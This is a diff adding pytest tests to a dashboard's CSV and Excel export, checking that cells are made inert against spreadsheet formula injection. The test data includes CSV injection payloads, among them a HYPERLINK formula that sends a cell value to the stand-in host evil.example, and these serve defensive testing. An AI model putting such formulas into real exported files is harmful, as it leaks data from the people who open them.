@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import zipfile
 from typing import Any
 
 import pytest
@@ -14,6 +16,7 @@ from dashboard.app_factory import create_app
 from dashboard.clock import FixedClock
 from dashboard.config import Settings
 from dashboard.disclosure import RULE_TEXT
+from dashboard.inert_cells import FORMULA_STARTS, inert, is_number
 from data_access.audit import recent_events
 from data_access.metrics.waiting import waiting_at
 from tests.accounts import add_user, sign_in_client
@@ -104,3 +107,57 @@ def test_bad_export_requests_get_a_clear_message(app, engine, query: str, status
     answer = client.get(f"/export?{query}")
     assert answer.status_code == status
     assert "Traceback" not in answer.get_data(as_text=True)
+
+
+# People whose references a spreadsheet would run as formulas (OWASP, CSV injection).
+HOSTILE_REFS = {"p1": '=HYPERLINK("http://evil.example/?x="&A2,"Open")', "p2": "+1+1",
+                "p3": "@SUM(1+1)", "p4": "-2+3"}
+HUDDLE = "/export?path=/huddle&search=?area=ICB1&table=huddle-table-1&audience=team"
+
+
+def _hostile_episodes() -> str:
+    text = TODAY_EPISODES
+    for ref, hostile in HOSTILE_REFS.items():
+        quoted = '"' + hostile.replace('"', '""') + '"'
+        text = text.replace(f",{ref},S1,", f",{quoted},S1,")
+    return text
+
+
+def test_no_exported_cell_can_run_as_a_formula(engine, database_url, tmp_path) -> None:
+    assert load_files(engine, tmp_path / "batch", {**GEOGRAPHY,
+                                                  "episodes.csv": _hostile_episodes()}).loaded
+    app = create_app(Settings(database_url=database_url, clock=FixedClock(TODAY_AT)), engine)
+    client = signed_in(app, engine, "hub_lead", ("ICB1",))
+
+    # CSV, read back as a spreadsheet reads it: no cell starts as a formula, unless a number.
+    rows = rows_of(client.get(f"{HUDDLE}&format=csv"))
+    cells = [cell for row in rows for cell in row]
+    assert all(is_number(cell) or not cell.lstrip(" ").startswith(FORMULA_STARTS)
+               for cell in cells), [c for c in cells if c.startswith(FORMULA_STARTS)]
+    refs = {row[0] for row in rows[1:rows.index([])]}
+    assert {"'" + hostile for hostile in HOSTILE_REFS.values()} <= refs  # kept, made inert
+
+    # Excel: no formula anywhere in the workbook's XML, the text kept as it was, numbers numbers.
+    answer = client.get(f"{HUDDLE}&format=xlsx")
+    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as package:
+        sheets = [package.read(name) for name in package.namelist()
+                  if name.startswith("xl/worksheets/")]
+    assert sheets and not any(re.search(rb"<(\w+:)?f[ >]", sheet) for sheet in sheets)
+    book = load_workbook(io.BytesIO(answer.get_data()))
+    figures = book["Figures"]
+    assert all(cell.data_type != "f" for row in figures.iter_rows() for cell in row)
+    assert set(HOSTILE_REFS.values()) <= {row[0].value for row in figures.iter_rows(min_row=2)}
+    bands = signed_in(app, engine, "executive").get(f"{BANDS}&format=xlsx&audience=team")
+    people = [row[1].value for row in load_workbook(io.BytesIO(bands.get_data()))["Figures"]
+              .iter_rows(min_row=2)]
+    assert people and all(isinstance(count, int) for count in people)
+
+
+@pytest.mark.parametrize(("text", "made"), [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("-", "'-"),
+    ("-3", "-3"), ("+5", "+5"), ("1,234", "1,234"), ("-45.5%", "-45.5%"), ("Ward 7", "Ward 7"),
+    ("a=b", "a=b"), ("–", "–"), ("", ""),
+])
+def test_text_is_made_inert_and_numbers_stay_numbers(text, made) -> None:
+    assert inert(text) == made
